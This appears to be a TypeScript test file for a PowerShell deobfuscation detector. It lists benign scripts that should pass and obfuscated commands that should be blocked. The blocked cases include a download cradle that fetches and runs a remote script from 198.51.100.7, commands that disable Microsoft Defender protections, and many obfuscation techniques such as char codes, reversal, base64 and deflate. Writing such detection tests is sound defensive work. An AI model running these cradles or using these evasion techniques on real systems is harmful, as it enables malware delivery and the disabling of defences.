import { deobfCases, enc } from "./_deobf_testing.ts";
import { deflateRawSync } from "node:zlib";

const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/s.ps1')";
const AV = "Set-MpPreference -DisableBehaviorMonitoring $true";
const l1 = (u: Uint8Array) => btoa(Array.from(u, (c) => String.fromCharCode(c)).join(""));

deobfCases("powershell", [
  {
    id: "decoded",
    block: [
      // [char] arithmetic joined with +, built into a script block.
      `&([scriptblock]::Create((${[...CRADLE].map((c) => `[char]${c.charCodeAt(0)}`).join("+")})))`,
      // -join of a [char[]] code list.
      `powershell -nop -c "iex (-join [char[]](${enc.codes(CRADLE)}))"`,
      // Reversed string, indexed backwards.
      `$r="${enc.rev(CRADLE)}"; iex (-join $r[-1..-($r.Length)])`,
      // Format-operator reordering.
      `iex ("{1}{0}{2}" -f 'MpPreference -DisableBehavior','Set-','Monitoring $true')`,
      // Doubled single quotes (PowerShell's escaped quote) inside the fragments.
      `& ($env:ComSpec[4,15,25] -join '') ("{2}{0}{1}" -f 'ebClient).DownloadString(''https://198.51.100.7/','a.ps1'')','(New-Object Net.W')`,
      // Concatenated cmdlet with defender switch.
      `iex ('Set-Mp'+'Preference -Disable'+'ScriptScanning $true')`,
      // Junk characters replaced away.
      `iex ('S~e~t~-~M~p~P~r~e~f~e~r~e~n~c~e -DisableIntrusionPreventionSystem $true' -replace '~','')`,
      // UTF-16LE base64 decoded through [Text.Encoding]::Unicode.
      `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${
        enc.u16b64(CRADLE)
      }')))`,
      // Invoke-Obfuscation COMPRESS launcher shape with a real deflate stream.
      `.($env:ComSpec[4,15,25]-join'')(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${
        l1(deflateRawSync(CRADLE))
      }'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`,
      // Undecodable: a SecureString decrypted and executed.
      `$s = Get-Content .\\blob.txt | ConvertTo-SecureString -Key (1..16); iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))`,
      // Code list piped through [char], and a [byte[]] list read as ASCII.
      `iex ((${enc.codes(CRADLE)} | % {[char]$_}) -join '')`,
      `iex ([Text.Encoding]::ASCII.GetString([byte[]](${enc.codes(CRADLE)})))`,
      // Invoke-Obfuscation's built-in variable slices for iex.
      `&($PSHome[4]+$PSHome[30]+'x') ((New-Object Net.WebClient).DownloadString('http://198.51.100.7/s.ps1'))`,
      // Defender switch hidden in char codes.
      `iex ([string]::new([char[]](${enc.codes(AV)})))`,
    ],
    pass: [
      // -EncodedCommand of a harmless script.
      `powershell -NoProfile -EncodedCommand ${
        enc.u16b64("Get-ChildItem -Path C:\\logs | Sort-Object Length")
      }`,
      // Format operator for a report line.
      `"{0} files, {1} MB" -f $count, ($bytes / 1MB)`,
      `$name = "build-" + (Get-Date -Format "yyyyMMdd") + ".zip"; Compress-Archive -Path .\\out -DestinationPath $name`,
      `[char[]]'hello' | ForEach-Object { [int]$_ }`,
      `$b = [Convert]::FromBase64String($env:CERT_B64); [IO.File]::WriteAllBytes("cert.pfx", $b)`,
      `'a,b,c' -split ',' -join ';'`,
      `$s = 'olleh'; -join $s[-1..-($s.Length)]`,
      `(Get-Content log.txt) -replace 'ERROR','WARN' | Set-Content log.txt`,
    ],
  },
]);
